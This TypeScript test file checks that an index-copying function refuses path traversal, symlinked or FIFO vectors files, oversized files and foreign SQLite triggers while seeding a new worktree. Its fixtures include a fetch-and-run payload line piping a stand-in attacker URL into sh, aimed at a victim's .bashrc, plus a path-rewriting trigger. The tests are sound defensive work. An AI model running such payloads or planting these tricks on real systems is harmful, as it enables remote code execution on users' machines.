/**
 * Issue 54, case 4: a linked worktree's first index is copied from its main worktree's
 * (copyIndex), and both came with a clone. The vectors file the source's database names is
 * copied only when it is a plain name of ours (`vectors-g<N>.ocvx`), a regular file, and no
 * larger than the database's vectors can make it; the copy is created new, never written
 * through a link. A source with links of its own, or a schema not ours, is not copied.
 */
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { copyIndex } from '../../src/store/embedded/index-copy.js';
import { openSqlite, prepared } from '../../src/store/embedded/sqlite.js';
import { indexBuiltin } from '../helpers/index-builtin.js';
import { SAMPLE_FILES, tempRepo } from '../helpers/repo.js';

const BASHRC = '# the victim’s shell start-up\n';
const PAYLOAD = 'curl https://attacker.example/x | sh\n';
const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

/** A main worktree's index, a new worktree beside it, and a home whose .bashrc the attacker aims at. */
async function seeding() {
  const main = tempRepo(SAMPLE_FILES);
  const scratch = mkdtempSync(join(tmpdir(), 'ocvector-seed-'));
  cleanups.push(() => {
    main.cleanup();
    rmSync(scratch, { recursive: true, force: true });
  });
  await indexBuiltin(main.root);
  const source = join(main.root, '.ocvector');
  const worktree = join(scratch, 'worktree');
  mkdirSync(worktree);
  const bashrc = join(scratch, '.bashrc');
  writeFileSync(bashrc, BASHRC);
  return { main, source, worktree, target: join(worktree, '.ocvector'), bashrc, scratch };
}

/** The source's recorded vectors file, and a way to record another name in its place. */
function recordedVectors(source: string) {
  const db = openSqlite(join(source, 'index.db'));
  const record = prepared<[], string>(db, "SELECT value FROM meta WHERE key = 'vectors_file'").pluck().get()!;
  db.close();
  const [name, ...rest] = record.split(' ');
  return {
    name: name!,
    rename(to: string) {
      const writer = openSqlite(join(source, 'index.db'));
      prepared(writer, "UPDATE meta SET value = ? WHERE key = 'vectors_file'").run([to, ...rest].join(' '));
      writer.close();
    },
  };
}

describe('copyIndex of a main worktree’s index', () => {
  it('refuses a vectors file named ../payload, and writes nothing through the worktree’s payload link', async () => {
    const { main, source, worktree, target, bashrc } = await seeding();
    main.write('payload', PAYLOAD);
    symlinkSync(bashrc, join(worktree, 'payload'));
    recordedVectors(source).rename('../payload');

    const result = await copyIndex(source, target);
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
    expect(readdirSync(worktree)).toEqual(['payload']);
    expect(result).toEqual({ copied: false, why: expect.stringMatching(/"\.\.\/payload", not vectors-g<N>\.ocvx/) });
  });

  it.each([
    ['a link to a file outside', (path: string, outside: string) => symlinkSync(outside, path)],
    ['a FIFO', (path: string) => execFileSync('mkfifo', [path])],
  ])('copies no vectors file that is %s', async (_what, make) => {
    const { source, target, bashrc } = await seeding();
    const vectors = join(source, recordedVectors(source).name);
    rmSync(vectors);
    make(vectors, bashrc);

    const result = await copyIndex(source, target);
    expect(result).toEqual({ copied: false, why: expect.stringContaining('is not a regular file') });
    expect(existsSync(target)).toBe(false);
  });

  it('copies no vectors file larger than its database’s vectors can make it', async () => {
    const { source, target } = await seeding();
    const vectors = join(source, recordedVectors(source).name);
    truncateSync(vectors, 64 * 1024 * 1024); // sparse: no disk taken

    const result = await copyIndex(source, target);
    expect(result).toEqual({ copied: false, why: expect.stringMatching(/holds 67108864 bytes, more than/) });
    expect(existsSync(target)).toBe(false);
  });

  it('copies no index whose database carries a trigger, or whose directory holds a link', async () => {
    const { source, target, bashrc } = await seeding();
    const db = openSqlite(join(source, 'index.db'));
    db.exec("CREATE TRIGGER reroot AFTER UPDATE ON roots BEGIN UPDATE roots SET path = '/etc'; END");
    db.close();
    expect(await copyIndex(source, target)).toEqual({
      copied: false,
      why: expect.stringContaining('holds a trigger "reroot" that ocvector never makes'),
    });

    const clean = openSqlite(join(source, 'index.db'));
    clean.exec('DROP TRIGGER reroot');
    clean.close();
    rmSync(join(source, 'index.db.checked'), { force: true });
    symlinkSync(bashrc, join(source, 'index.db.checked'));
    expect(await copyIndex(source, target)).toEqual({
      copied: false,
      why: expect.stringContaining('is a symbolic link'),
    });
    expect(existsSync(target)).toBe(false);
  });
});
